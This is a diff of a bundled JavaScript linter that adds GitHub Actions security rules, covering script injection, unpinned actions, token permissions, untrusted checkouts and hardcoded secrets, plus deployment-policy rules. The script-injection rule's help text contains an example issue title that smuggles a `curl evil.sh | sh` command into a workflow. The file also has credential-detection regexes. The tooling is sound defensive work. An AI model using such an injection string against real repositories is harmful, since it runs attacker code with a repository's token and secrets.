@@ -1,8 +1,8 @@
-export const id = 83;
-export const ids = [83];
+export const id = 547;
+export const ids = [547];
 export const modules = {
 
-/***/ 3083:
+/***/ 1547:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 
 // ESM COMPAT FLAG
@@ -521,7 +521,682 @@ const reusable_workflow_call_rule = {
 };
 /* harmony default export */ const reusable_workflow_call = (reusable_workflow_call_rule);
 
+;// CONCATENATED MODULE: ./.build/src/core/rules/untrusted-input-in-script.js
+/** PG200 untrusted-input-in-script: attacker-controlled event data expanded in `run:` or github-script's `script:`. */
+
+
+/**
+ * The untrusted inputs of actionlint's expression check and GitHub's security hardening guide:
+ * text any user (or fork) controls. `*` is any element of an array.
+ */
+const UNTRUSTED = [
+    'github.event.issue.title',
+    'github.event.issue.body',
+    'github.event.pull_request.title',
+    'github.event.pull_request.body',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.label',
+    'github.event.pull_request.head.repo.default_branch',
+    'github.event.discussion.title',
+    'github.event.discussion.body',
+    'github.event.comment.body',
+    'github.event.review.body',
+    'github.event.review_comment.body',
+    'github.event.pages.*.page_name',
+    'github.event.commits.*.message',
+    'github.event.commits.*.author.email',
+    'github.event.commits.*.author.name',
+    'github.event.head_commit.message',
+    'github.event.head_commit.author.email',
+    'github.event.head_commit.author.name',
+    'github.event.workflow_run.head_branch',
+    'github.event.workflow_run.head_commit.message',
+    'github.event.workflow_run.head_commit.author.email',
+    'github.event.workflow_run.head_commit.author.name',
+    'github.event.workflow_run.head_repository.description',
+    'github.head_ref'
+].map((p) => p.split('.'));
+/** The untrusted path a chain reads (as written in the list), if any. */
+function untrusted(segments) {
+    const names = segments.map((s) => s.name.toLowerCase());
+    for (const pattern of UNTRUSTED) {
+        if (names.length < pattern.length)
+            continue;
+        if (pattern.every((p, i) => (p === '*' ? true : names[i] === p)))
+            return pattern.join('.');
+    }
+    return undefined;
+}
+/** The value of `key` in a step's mapping. */
+function untrusted_input_in_script_valueOf(token, key) {
+    if (!token || !(0,workflow_parser_dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,workflow_parser_dist/* isString */.Kg)(pair.key) && pair.key.value === key)
+            return pair.value;
+    return undefined;
+}
+const untrusted_input_in_script_rule = {
+    id: 'PG200',
+    name: 'untrusted-input-in-script',
+    level: 'error',
+    description: 'Untrusted event data (titles, bodies, head refs, commit messages, `github.head_ref`, …) expanded with `${{ }}` in `run:` or in `actions/github-script`\'s `script:`.',
+    help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The list of untrusted inputs is the one of actionlint and GitHub\'s security hardening guide.',
+    create(context) {
+        return {
+            step(step, _owner, file) {
+                const sites = [];
+                const run = untrusted_input_in_script_valueOf(step.token, 'run');
+                if (run)
+                    sites.push({ where: 'run:', token: run });
+                if (/^actions\/github-script@/i.test(step.uses?.value ?? '')) {
+                    const script = untrusted_input_in_script_valueOf(untrusted_input_in_script_valueOf(step.token, 'with'), 'script');
+                    if (script)
+                        sites.push({ where: "actions/github-script's script:", token: script });
+                }
+                for (const { where, token } of sites) {
+                    for (const site of expressionSites(token)) {
+                        for (const chain of contextChains(site)) {
+                            const path = untrusted(chain.segments);
+                            if (!path)
+                                continue;
+                            const shown = chain.segments.map((s) => s.name).join('.');
+                            context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
+                        }
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const untrusted_input_in_script = (untrusted_input_in_script_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/unpinned-action.js
+const SHA = /^[0-9a-f]{40}$/;
+const DIGEST = /@sha256:[0-9a-f]{64}$/;
+/** Whether `allow.owners` or `allow.actions` (`owner/repo`, `owner/*`, `owner/repo/path`) trusts this action. */
+function allowed(action, settings) {
+    const lower = action.toLowerCase();
+    const owner = lower.split('/')[0];
+    if (settings.allowOwners.some((o) => o.toLowerCase() === owner))
+        return true;
+    return settings.allowActions.some((pattern) => {
+        const p = pattern.toLowerCase().replace(/@.*$/, '');
+        const re = new RegExp(`^${p.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}(?:/.*)?$`);
+        return re.test(lower);
+    });
+}
+const unpinned_action_rule = {
+    id: 'PG201',
+    name: 'unpinned-action',
+    level: 'warning',
+    description: 'A `uses:` of another repository not pinned to a full 40-character commit SHA, or a `docker://` image not pinned by `@sha256:` digest.',
+    help: 'A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action\'s repository, and the next run executes the new code with your token and secrets (as in the tj-actions/changed-files compromise). Pin `owner/repo@<40-hex sha> # v4.2.2` and let Dependabot or Renovate update the SHA; pin `docker://image@sha256:<digest>`. Local actions (`./…`) are part of the repository and exempt. Every owner is third-party here, `actions/*` and `github/*` included; trust owners or actions in `.github/phase-gates.yml` with `allow: { owners: [acme], actions: [acme/deploy] }`.',
+    create(context) {
+        const check = (file, uses) => {
+            const value = uses?.value.trim();
+            if (!uses || !value || value.startsWith('./') || value.includes('${{'))
+                return;
+            if (value.startsWith('docker://')) {
+                const image = value.slice('docker://'.length);
+                if (DIGEST.test(image) || allowed(image, context.settings))
+                    return;
+                context.report(file, uses, `image "${value}" is not pinned by digest; use docker://${image.replace(/@.*$/, '').replace(/:[^/:]*$/, '')}@sha256:<digest>`);
+                return;
+            }
+            const at = value.lastIndexOf('@');
+            const action = at < 0 ? value : value.slice(0, at);
+            const ref = at < 0 ? '' : value.slice(at + 1);
+            if (SHA.test(ref) || allowed(action, context.settings))
+                return;
+            const pinned = ref ? `${action}@<40-hex commit sha> # ${ref}` : `${action}@<40-hex commit sha>`;
+            context.report(file, uses, `"${value}" is not pinned to a full commit SHA${ref ? ` ("${ref}" can be moved)` : ''}; use ${pinned}`);
+        };
+        return {
+            jobPre(job, workflow) {
+                check(workflow.file, job.uses);
+            },
+            step(step, _owner, file) {
+                check(file.file, step.uses);
+            }
+        };
+    }
+};
+/* harmony default export */ const unpinned_action = (unpinned_action_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/missing-permissions.js
+/** PG202 missing-permissions: jobs left with the default `GITHUB_TOKEN` permissions, and `write-all`. */
+
+function writeAll(token) {
+    if (!token || !(0,workflow_parser_dist/* isString */.Kg)(token) || token.value.trim() !== 'write-all')
+        return undefined;
+    return { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
+}
+const missing_permissions_rule = {
+    id: 'PG202',
+    name: 'missing-permissions',
+    level: 'warning',
+    description: 'A job with no `permissions:` in a workflow with none at the top, or `permissions: write-all` anywhere.',
+    help: 'Without `permissions:`, the `GITHUB_TOKEN` gets the repository\'s default, which on older repositories and organizations is read and write on everything; any compromised step can then push code, create releases or approve pull requests. Declare the least the workflow needs at the top (`permissions: { contents: read }`, or `{}`) and widen per job where a job needs more. `write-all` grants every scope: list the scopes instead. Workflows triggered only by `workflow_call` take their permissions from the caller and are not checked for a missing key.',
+    create(context) {
+        return {
+            workflowPre(workflow) {
+                const top = workflow.permissions;
+                const all = writeAll(top?.value);
+                if (all)
+                    context.report(workflow.file, all, 'permissions: write-all grants the token every scope; list only the scopes the workflow needs', 'error');
+                if (top)
+                    return;
+                if (workflow.on.size > 0 && [...workflow.on.keys()].every((k) => k === 'workflow_call'))
+                    return;
+                for (const job of workflow.jobs) {
+                    if (job.permissions)
+                        continue;
+                    context.report(workflow.file, job.id, `job "${job.id.value}" has no permissions: and the workflow sets none, so its token gets the repository default (possibly write on everything); set permissions: at the top of the workflow (e.g. contents: read) or on the job`);
+                }
+            },
+            jobPre(job, workflow) {
+                const all = writeAll(job.permissions);
+                if (all)
+                    context.report(workflow.file, all, `job "${job.id.value}" has permissions: write-all, which grants the token every scope; list only the scopes the job needs`, 'error');
+            }
+        };
+    }
+};
+/* harmony default export */ const missing_permissions = (missing_permissions_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/untrusted-checkout.js
+/** PG203 untrusted-checkout: a privileged `pull_request_target` or `workflow_run` job checks out the untrusted head. */
+
+
+/** Expressions that name the code of the pull request or of the run that triggered `workflow_run`. */
+const HEAD = [
+    'github.event.pull_request.head.sha',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.merge_commit_sha',
+    'github.head_ref',
+    'github.event.workflow_run.head_sha',
+    'github.event.workflow_run.head_branch'
+];
+const PRIVILEGED = ['pull_request_target', 'workflow_run'];
+const untrusted_checkout_rule = {
+    id: 'PG203',
+    name: 'untrusted-checkout',
+    level: 'error',
+    description: 'A `pull_request_target` or `workflow_run` workflow whose job checks out the untrusted head (`actions/checkout` with a `ref:` of the pull request head or `refs/pull/…/merge`).',
+    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, precisely so that they can act on pull requests from forks. Checking out the head of the pull request there and then building, testing or even installing it runs the attacker\'s code with those privileges ("pwn request"). Use `pull_request` for anything that runs the contributed code, and keep the privileged workflow to trusted steps (labelling, commenting on results it downloads as data).',
+    create(context) {
+        return {
+            step(step, owner, file) {
+                if (file.kind !== 'workflow' || !('id' in owner))
+                    return;
+                const trigger = PRIVILEGED.find((t) => file.on.has(t));
+                if (!trigger || !/^actions\/checkout@/i.test(step.uses?.value ?? ''))
+                    return;
+                const ref = step.with.get('ref');
+                if (!ref)
+                    return;
+                let found;
+                for (const site of expressionSites(ref.value)) {
+                    for (const chain of contextChains(site)) {
+                        const path = chain.segments.map((s) => s.name.toLowerCase()).join('.');
+                        if (HEAD.some((h) => path === h || path.startsWith(`${h}.`)))
+                            found ??= { what: chain.segments.map((s) => s.name).join('.'), at: chain.segments[0] };
+                    }
+                }
+                const text = (0,workflow_parser_dist/* isString */.Kg)(ref.value) ? ref.value.value : (0,workflow_parser_dist/* isBasicExpression */.hR)(ref.value) ? ref.value.toDisplayString() : '';
+                if (!found && /refs\/pull\/[^/]+\/(merge|head)/.test(text)) {
+                    const r = ref.value.range;
+                    found = { what: 'refs/pull/…', at: { at: r ? { line: r.start.line, column: r.start.column } : ref.key.at } };
+                }
+                if (!found)
+                    return;
+                context.report(file.file, found.at, `job "${owner.id.value}" of a ${trigger} workflow checks out the untrusted head (${found.what}) with the base repository's secrets and write token; run contributed code under pull_request instead`);
+            }
+        };
+    }
+};
+/* harmony default export */ const untrusted_checkout = (untrusted_checkout_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/hardcoded-secret.js
+/** PG204 hardcoded-secret: credentials written into a workflow or action file. */
+
+/** Credentials recognisable by their shape; the message names the kind, never the value. */
+const KINDS = [
+    { kind: 'an AWS access key id', re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
+    { kind: 'a GitHub token', re: /\bgh[opsu]_[A-Za-z0-9]{36,}\b/g },
+    { kind: 'a GitHub fine-grained token', re: /\bgithub_pat_[A-Za-z0-9_]{22,}\b/g },
+    { kind: 'a private key', re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----/g },
+    { kind: 'a Slack token', re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g },
+    { kind: 'a Slack webhook URL', re: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]+/g }
+];
+/** Keys whose value is a credential: `*_KEY`, `*_TOKEN`, `*_SECRET` (or `-key`, …) and `*PASSWORD*`. */
+const SECRET_KEY = /(?:^|[_-])(?:key|token|secret)$|password|passwd/i;
+/** Shannon entropy in bits per character. */
+function entropy(s) {
+    const counts = new Map();
+    for (const c of s)
+        counts.set(c, (counts.get(c) ?? 0) + 1);
+    let bits = 0;
+    for (const n of counts.values())
+        bits -= (n / s.length) * Math.log2(n / s.length);
+    return bits;
+}
+/** A literal that looks generated rather than written: long, no spaces, mixed letters and digits, high entropy. */
+function highEntropy(value) {
+    const v = value.trim();
+    if (v.length < 16 || /\s/.test(v) || v.includes('${{'))
+        return false;
+    if (!/[A-Za-z]/.test(v) || !/\d/.test(v))
+        return false;
+    return entropy(v) >= 3.5;
+}
+function lineColumn(text, offset) {
+    const before = text.slice(0, offset);
+    const line = before.split('\n').length;
+    return { line, column: offset - before.lastIndexOf('\n') };
+}
+const hardcoded_secret_rule = {
+    id: 'PG204',
+    name: 'hardcoded-secret',
+    level: 'error',
+    description: 'A credential written into the file: AWS access key ids, GitHub tokens, private keys, Slack tokens, or a high-entropy literal assigned to a `*_KEY`, `*_TOKEN`, `*_SECRET` or `*PASSWORD*` key.',
+    help: 'Everything in a workflow file is readable by everyone who can read the repository, forever (in its history too), and is not masked in logs. Revoke the credential, remove it, and pass it as a secret (`${{ secrets.NAME }}`) or, better, use OIDC (`aws-actions/configure-aws-credentials` with `role-to-assume`). Literal values of secret-named keys are reported when they look generated (16 characters or more, letters and digits, high entropy); expressions are never reported. The finding names the kind and the key, never the value.',
+    create(context) {
+        return {
+            file(parsed) {
+                const text = parsed.source.text ?? '';
+                const shaped = new Set();
+                for (const { kind, re } of KINDS) {
+                    for (const m of text.matchAll(re)) {
+                        const at = lineColumn(text, m.index ?? 0);
+                        shaped.add(at.line);
+                        context.report(parsed.source, { at }, `${kind} is written into the file; revoke it and pass it as a secret (secrets.NAME) instead`);
+                    }
+                }
+                if (!parsed.model)
+                    return;
+                const visit = (token, where) => {
+                    if ((0,workflow_parser_dist/* isSequence */.wZ)(token)) {
+                        let i = 0;
+                        for (const item of token)
+                            visit(item, `${where}[${i++}]`);
+                        return;
+                    }
+                    if (!(0,workflow_parser_dist/* isMapping */.pi)(token))
+                        return;
+                    for (const pair of token) {
+                        if (!(0,workflow_parser_dist/* isString */.Kg)(pair.key))
+                            continue;
+                        const key = pair.key.value;
+                        const value = pair.value;
+                        if ((0,workflow_parser_dist/* isString */.Kg)(value) && SECRET_KEY.test(key) && highEntropy(value.value)) {
+                            const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : { line: 1, column: 1 };
+                            if (!shaped.has(at.line))
+                                context.report(parsed.source, { at }, `"${where ? `${where}.` : ''}${key}" is assigned a literal high-entropy value that looks like a credential; pass it as a secret (secrets.NAME) instead`);
+                        }
+                        else
+                            visit(value, where ? `${where}.${key}` : key);
+                    }
+                };
+                visit(parsed.model.root, '');
+            }
+        };
+    }
+};
+/* harmony default export */ const hardcoded_secret = (hardcoded_secret_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/mutable-image.js
+/** PG205 mutable-image: container, service and `docker://` images with `:latest` or no tag. */
+
+/** The image of `container:` (a string, or a mapping with `image:`) or of a service. */
+function imageOf(token) {
+    if (!token)
+        return undefined;
+    if ((0,workflow_parser_dist/* isString */.Kg)(token))
+        return token;
+    if (!(0,workflow_parser_dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,workflow_parser_dist/* isString */.Kg)(pair.key) && pair.key.value === 'image')
+            return pair.value;
+    return undefined;
+}
+/** What is mutable about an image reference: `:latest`, no tag, or nothing (a version tag or a digest). */
+function mutability(image) {
+    if (!image || image.includes('${{') || image.includes('@'))
+        return undefined;
+    const last = image.split('/').pop() ?? '';
+    const colon = last.indexOf(':');
+    if (colon < 0)
+        return 'untagged';
+    return last.slice(colon + 1).toLowerCase() === 'latest' ? 'latest' : undefined;
+}
+const mutable_image_rule = {
+    id: 'PG205',
+    name: 'mutable-image',
+    level: 'warning',
+    description: 'A `container:`, `services:` or `docker://` image with the `:latest` tag or no tag at all.',
+    help: 'An image without a tag means `:latest`, which points to whatever was pushed last: the job changes under you between two runs, and whoever can push the image controls what runs. Use a version tag (`postgres:16.4`) or, better, a digest (`postgres@sha256:…`, which PG201 asks for `docker://` steps).',
+    create(context) {
+        const check = (file, token, what) => {
+            if (!token || !(0,workflow_parser_dist/* isString */.Kg)(token))
+                return;
+            const image = token.value.trim().replace(/^docker:\/\//, '');
+            const kind = mutability(image);
+            if (!kind)
+                return;
+            const node = { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
+            const why = kind === 'latest' ? 'uses the mutable tag :latest' : 'has no tag, so it means :latest';
+            context.report(file, node, `${what} image "${image}" ${why}; pin a version tag or a digest (@sha256:…)`);
+        };
+        return {
+            jobPre(job, workflow) {
+                check(workflow.file, imageOf(job.container), `container`);
+                if (job.services && (0,workflow_parser_dist/* isMapping */.pi)(job.services)) {
+                    for (const pair of job.services) {
+                        const name = (0,workflow_parser_dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
+                        check(workflow.file, imageOf(pair.value), `service "${name}"`);
+                    }
+                }
+            },
+            step(step, _owner, file) {
+                const uses = step.uses?.value ?? '';
+                if (!uses.startsWith('docker://'))
+                    return;
+                const token = step.token.find('uses');
+                check(file.file, token, 'step');
+            }
+        };
+    }
+};
+/* harmony default export */ const mutable_image = (mutable_image_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/deploy-jobs.js
+/**
+ * Deploy jobs of a workflow, shared by the deployment-policy rules (PG300–PG304): which jobs
+ * deploy, to which environment, with which step, and how jobs are ordered through `needs:`.
+ *
+ * A job deploys when one of its steps uses our deploy action (`owner/phase-gates/actions/deploy@…`,
+ * `./actions/deploy`) or the root action (`owner/phase-gates@…`, the whole Phase 06 in one step),
+ * when it is bound to an `environment:`, or when its id or name says so (deploy, release, publish,
+ * rollout, production, prod) and a step runs a deploy command (kubectl apply, helm upgrade,
+ * terraform apply, …).
+ */
+
+const DEPLOY_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/deploy@|\.\/actions\/deploy\/?$)/i;
+const ROOT_ACTION = /^[^/\s]+\/phase-gates@/i;
+const SMOKE_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/smoke-test@|\.\/actions\/smoke-test\/?$)/i;
+const GATES_ACTION = /^(?:[^/\s]+\/phase-gates\/actions\/gates-enforcer@|\.\/actions\/gates-enforcer\/?$)/i;
+const DEPLOY_NAME = /deploy|release|publish|rollout|production|prod\b/i;
+const DEPLOY_COMMAND = /\b(?:kubectl\s+(?:\S+\s+)*?(?:apply|rollout)\b|helm\s+(?:\S+\s+)*?upgrade\b|terraform\s+(?:\S+\s+)*?apply\b|aws\s+ecs\s+update-service\b|az\s+webapp\s+deploy\b|gcloud\s+run\s+deploy\b|vercel\s+(?:deploy\s+)?.*--prod\b|serverless\s+deploy\b|sls\s+deploy\b)/i;
+const SMOKE_COMMAND = /\b(?:curl|wget|smoke|health[-_ ]?check|healthz|readyz|livez)\b/i;
+const GATES_NAME = /^gates(?:[-_ ]?enforcer)?$/i;
+const PRODUCTION = /^(?:prod|production)$/i;
+const STAGING = /^(?:staging|stage|stg|pre-?prod|pre-?production)$/i;
+function pos(token) {
+    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
+}
+/** The value of `key` in a mapping token, with its position. */
+function mappingValue(token, key) {
+    if (!token || !(0,workflow_parser_dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,workflow_parser_dist/* isString */.Kg)(pair.key) && pair.key.value === key)
+            return pair.value;
+    return undefined;
+}
+/** A token as a reportable node. */
+function nodeOf(token) {
+    return { at: pos(token) };
+}
+/** A literal `true` (the parser may keep it as a boolean or a string). */
+function isTrue(token) {
+    return !!token && (0,workflow_parser_dist/* isLiteral */.c$)(token) && token.toString().trim().toLowerCase() === 'true';
+}
+/** The environment name of `environment:` (a string, or a mapping with `name:`); literals only. */
+function environmentName(token) {
+    if (!token)
+        return undefined;
+    const name = (0,workflow_parser_dist/* isMapping */.pi)(token) ? mappingValue(token, 'name') : token;
+    return name && (0,workflow_parser_dist/* isLiteral */.c$)(name) ? name.toString().trim() : undefined;
+}
+function isDeployAction(uses) {
+    return !!uses && DEPLOY_ACTION.test(uses.trim());
+}
+function isRootAction(uses) {
+    return !!uses && ROOT_ACTION.test(uses.trim());
+}
+/** A step that deploys: our deploy or root action, or a deploy command. */
+function isDeployStep(step) {
+    return isDeployAction(step.uses?.value) || isRootAction(step.uses?.value) || (!!step.run && DEPLOY_COMMAND.test(step.run.value));
+}
+/** A smoke test: our smoke-test action, or a run that probes the service (curl, wget, health check). */
+function isSmokeStep(step) {
+    if (step.uses && SMOKE_ACTION.test(step.uses.value.trim()))
+        return true;
+    return !!step.run && SMOKE_COMMAND.test(step.run.value);
+}
+/** A step running our gates-enforcer action. */
+function isGatesStep(step) {
+    return !!step.uses && GATES_ACTION.test(step.uses.value.trim());
+}
+/** A gates job: it runs our gates-enforcer action, or is named `gates` / `gates_enforcer`. */
+function isGatesJob(job) {
+    return GATES_NAME.test(job.id.value) || (!!job.name && GATES_NAME.test(job.name.value)) || job.steps.some(isGatesStep);
+}
+function isProduction(name) {
+    return PRODUCTION.test(name);
+}
+function isStaging(name) {
+    return STAGING.test(name);
+}
+/** The job as a deploy job, or undefined when it does not deploy. */
+function deployJob(job) {
+    const deployStep = job.steps.find(isDeployStep);
+    const byAction = job.steps.some((s) => isDeployAction(s.uses?.value) || isRootAction(s.uses?.value));
+    const named = DEPLOY_NAME.test(job.id.value) || (!!job.name && DEPLOY_NAME.test(job.name.value));
+    if (!byAction && job.environment === undefined && !(named && deployStep))
+        return undefined;
+    const environments = [];
+    const jobEnv = environmentName(job.environment);
+    if (jobEnv)
+        environments.push(jobEnv);
+    for (const step of job.steps) {
+        if (!isDeployAction(step.uses?.value) && !isRootAction(step.uses?.value))
+            continue;
+        const input = step.with.get('environment')?.value;
+        if (input && (0,workflow_parser_dist/* isLiteral */.c$)(input))
+            environments.push(input.toString().trim());
+    }
+    return {
+        job,
+        deployStep,
+        rootAction: job.steps.some((s) => isRootAction(s.uses?.value)),
+        environments,
+        production: environments.some(isProduction),
+        staging: environments.some(isStaging)
+    };
+}
+/** Every deploy job of the workflow, in file order. */
+function deployJobs(workflow) {
+    return workflow.jobs.map(deployJob).filter((d) => d !== undefined);
+}
+/** The jobs `job` waits for, directly or through other jobs (job ids are case-insensitive). */
+function upstream(workflow, job) {
+    const byId = new Map(workflow.jobs.map((j) => [j.id.value.toLowerCase(), j]));
+    const seen = new Set();
+    const queue = [job];
+    while (queue.length) {
+        for (const need of queue.shift().needs) {
+            const next = byId.get(need.value.toLowerCase());
+            if (next && next !== job && !seen.has(next)) {
+                seen.add(next);
+                queue.push(next);
+            }
+        }
+    }
+    return [...seen];
+}
+/** The jobs that wait for `job`, directly or through other jobs. */
+function downstream(workflow, job) {
+    return workflow.jobs.filter((j) => j !== job && upstream(workflow, j).includes(job));
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/production-before-staging.js
+
+const production_before_staging_rule = {
+    id: 'PG300',
+    name: 'production-before-staging',
+    level: 'error',
+    description: 'A production deploy job that does not come after a staging deploy job of the same workflow (through `needs:`).',
+    help: 'The deployment policy says: deploy to staging before production, always. A job deploying to `production` (or `prod`, by its `environment:` or the deploy action\'s `environment` input) must wait, directly or through other jobs, for a job deploying to `staging` in the same workflow, so that a commit reaches production only after it ran in staging. Add the staging deploy job to the production job\'s `needs:`.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                const deploys = deployJobs(workflow);
+                const staging = new Set(deploys.filter((d) => d.staging && !d.production).map((d) => d.job));
+                for (const d of deploys) {
+                    if (!d.production)
+                        continue;
+                    if (upstream(workflow, d.job).some((j) => staging.has(j)))
+                        continue;
+                    const hint = staging.size ? ` (add ${[...staging].map((j) => `"${j.id.value}"`).join(' or ')} to its needs)` : ' (the workflow has no staging deploy job)';
+                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not come after a staging deploy${hint}`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const production_before_staging = (production_before_staging_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/deploy-without-environment.js
+
+const deploy_without_environment_rule = {
+    id: 'PG301',
+    name: 'deploy-without-environment',
+    level: 'warning',
+    description: 'A deploy job that is not bound to an `environment:`.',
+    help: 'GitHub environments carry the protection rules of a deployment (required reviewers, wait timers, allowed branches) and its secrets, and record the deployment history. A job that deploys (with our deploy action, or by its name and a deploy command such as `kubectl apply` or `helm upgrade`) without `environment:` bypasses all of them. Add `environment: <name>` (or `environment: { name, url }`) to the job.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                for (const d of deployJobs(workflow)) {
+                    if (d.job.environment !== undefined)
+                        continue;
+                    const target = d.environments.length ? ` (it deploys to "${d.environments[0]}")` : '';
+                    context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" is not bound to an environment:${target}`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_without_environment = (deploy_without_environment_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/deploy-without-smoke-test.js
+
+const deploy_without_smoke_test_rule = {
+    id: 'PG302',
+    name: 'deploy-without-smoke-test',
+    level: 'warning',
+    description: 'A deploy job that no smoke test follows: neither a later step of the job nor a job that needs it.',
+    help: 'The deployment policy says: run smoke tests after deployment. After the deploy step, a step of the same job must use our smoke-test action or probe the service (`curl`, `wget`, a health check), or a job that needs the deploy job must do so. The root action (`phase-gates@…`) runs its smoke tests itself.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                for (const d of deployJobs(workflow)) {
+                    if (d.rootAction)
+                        continue;
+                    const after = d.deployStep?.index ?? -1;
+                    if (d.job.steps.some((s) => s.index > after && isSmokeStep(s)))
+                        continue;
+                    if (downstream(workflow, d.job).some((j) => j.steps.some(isSmokeStep)))
+                        continue;
+                    const at = d.deployStep ? (d.deployStep.uses ?? d.deployStep.run ?? d.deployStep) : d.job.id;
+                    context.report(workflow.file, at, `deploy job "${d.job.id.value}" is not followed by a smoke test (a smoke-test step after the deploy, or a job that needs it and runs one)`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_without_smoke_test = (deploy_without_smoke_test_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/deploy-without-concurrency.js
+
+const deploy_without_concurrency_rule = {
+    id: 'PG303',
+    name: 'deploy-without-concurrency',
+    level: 'warning',
+    description: 'A deploy job without `concurrency:` (on the job or its workflow), or with `cancel-in-progress: true`.',
+    help: 'Two runs deploying the same environment at once race each other; a `concurrency:` group (e.g. `group: deploy-${{ github.ref }}-production`) serializes them. `cancel-in-progress: true` cancels the deploy that is running when a new one starts, which leaves the environment half-deployed: keep it `false` (the default) for deploy jobs and for workflows that contain them.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                const deploys = deployJobs(workflow);
+                if (!deploys.length)
+                    return;
+                const workflowCancel = mappingValue(workflow.concurrency?.value, 'cancel-in-progress');
+                if (isTrue(workflowCancel)) {
+                    const ids = deploys.map((d) => `"${d.job.id.value}"`).join(', ');
+                    context.report(workflow.file, nodeOf(workflowCancel), `workflow concurrency cancels in progress, which can cancel deploy job${deploys.length > 1 ? 's' : ''} ${ids} half-way`);
+                }
+                for (const d of deploys) {
+                    if (d.job.concurrency === undefined) {
+                        if (workflow.concurrency === undefined) {
+                            context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" has no concurrency: group, so two deploys can run at once`);
+                        }
+                        continue;
+                    }
+                    const cancel = mappingValue(d.job.concurrency, 'cancel-in-progress');
+                    if (isTrue(cancel)) {
+                        context.report(workflow.file, nodeOf(cancel), `deploy job "${d.job.id.value}" cancels in progress, which can leave the environment half-deployed`);
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_without_concurrency = (deploy_without_concurrency_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/rules/deploy-before-gates.js
+
+const deploy_before_gates_rule = {
+    id: 'PG304',
+    name: 'deploy-before-gates',
+    level: 'error',
+    description: 'A production deploy job that does not need (directly or through other jobs) a gates job.',
+    help: 'The deployment policy forbids deploying without automated tests passing. A production deploy job must wait, through `needs:`, for a job that enforces the gates: one that uses our gates-enforcer action (`…/actions/gates-enforcer`) or is named `gates` / `gates_enforcer`; a gates-enforcer step before the deploy step in the same job counts too, and the root action (`phase-gates@…`) enforces the gates itself.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                for (const d of deployJobs(workflow)) {
+                    if (!d.production || d.rootAction)
+                        continue;
+                    const before = d.deployStep?.index ?? d.job.steps.length;
+                    if (d.job.steps.some((s) => s.index < before && isGatesStep(s)))
+                        continue;
+                    if (upstream(workflow, d.job).some(isGatesJob))
+                        continue;
+                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not need a gates job (one running gates-enforcer), so it can deploy without the gates passing`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_before_gates = (deploy_before_gates_rule);
+
 ;// CONCATENATED MODULE: ./.build/src/core/rules/index.js
+
+
+
+
+
+
+
+
+
+
+
 
 
 
@@ -544,7 +1219,18 @@ const RULES = [
     step_outputs_reference,
     needs_outputs_reference,
     local_action_inputs,
-    reusable_workflow_call
+    reusable_workflow_call,
+    untrusted_input_in_script,
+    unpinned_action,
+    missing_permissions,
+    untrusted_checkout,
+    hardcoded_secret,
+    mutable_image,
+    production_before_staging,
+    deploy_without_environment,
+    deploy_without_smoke_test,
+    deploy_without_concurrency,
+    deploy_before_gates
 ];
 /** The rule with this id or kebab-case name. */
 function findRule(idOrName) {
@@ -711,7 +1397,7 @@ function aliasBomb(text) {
 
 
 // --- building ---------------------------------------------------------------------------------
-function pos(token) {
+function model_pos(token) {
     return token?.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
 }
